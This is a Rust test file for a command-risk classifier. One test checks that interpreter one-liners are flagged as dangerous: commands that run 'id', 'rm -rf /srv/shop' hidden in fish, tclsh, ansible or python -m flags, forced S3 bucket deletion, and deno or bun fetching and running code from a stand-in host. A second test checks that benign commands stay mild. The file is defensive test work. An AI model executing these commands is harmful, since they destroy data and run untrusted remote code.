//! Code and programs behind letters, modules and orders of interpreters.

use super::judged::class;
use crate::class::Class::{Red as R, Yellow as Y, YellowExternal as E};

#[test]
fn code_is_seen_behind_every_letter_and_module() {
    for (want, line) in [
        (R, "node -pe 'require(\"child_process\").execSync(\"id\")'"),
        (R, "node -ep 'require(\"child_process\").execSync(\"id\")'"),
        (R, "raku -ne 'shell \"id\"'"),
        (R, "php -B 'system(\"id\");'"),
        (R, "php -R 'system(\"id\");'"),
        (R, "php -E 'unlink(\"a\");'"),
        (R, "fish -C 'rm -rf /srv/shop'"),
        (R, "fish '-Crm -rf /srv/shop' a.fish"),
        (R, "fish --init-command 'rm -rf /srv/shop'"),
        (R, "fish --init-command='rm -rf /srv/shop'"),
        (R, "echo 'rm -rf /srv/shop' | tclsh"),
        (R, "python3 -m timeit 'import shutil; shutil.rmtree(\"/srv\")'"),
        (R, "python3 -m timeit -s 'import os' -n 5 'os.remove(\"a\")'"),
        (R, "python3 -m sqlite3 a.db 'drop table x'"),
        (R, "python3 -m awscli s3 rb s3://x --force"),
        (R, "python3 -mawscli s3 rb s3://x"),
        (R, "python3 -um awscli s3 rb s3://x"),
        (R, "python3 -W error -m awscli s3 rb s3://x"),
        (E, "python3 -m twine upload x"),
        (R, "python3 -m ansible all -a 'rm -rf /srv/shop'"),
        (R, "mix run -e 'System.cmd(\"id\",[])'"),
        (R, "mix run --eval='System.cmd(\"id\",[])'"),
        (R, "mix eval 'System.cmd(\"id\",[])'"),
        (R, "bin/rails runner 'File.delete(\"a\")'"),
        (R, "rails r 'File.delete(\"a\")'"),
        (R, "deno run -A https://x.example/x.ts"),
        (R, "bun https://x.example/x.ts"),
    ] {
        let got = class(line);
        assert!(got.0 >= want, "{} {line} {:?}", got.0, got.1);
    }
}

#[test]
fn what_only_computes_or_tests_stays_mild() {
    for line in [
        "node -pe '1+1'",
        "node -p 'process.version'",
        "node -p \"require('./package.json').version\"",
        "node a.js https://known.example",
        "deno run a.ts",
        "deno test",
        "python3 -m timeit '1+1'",
        "python3 -m json.tool a.json",
        "python3 -m venv .venv",
        "python3 -m pytest tests -x",
        "python3 -m pip install x",
        "python3 -m black .",
        "python3 -m platform",
        "python3 -c 'import os; print(os.getcwd())'",
        "mix run priv/seeds.exs",
        "mix test",
        "rails runner a.rb",
        "php -r 'echo 1;'",
    ] {
        let got = class(line);
        assert!(got.0 <= Y, "{} {line} {:?}", got.0, got.1);
    }
}
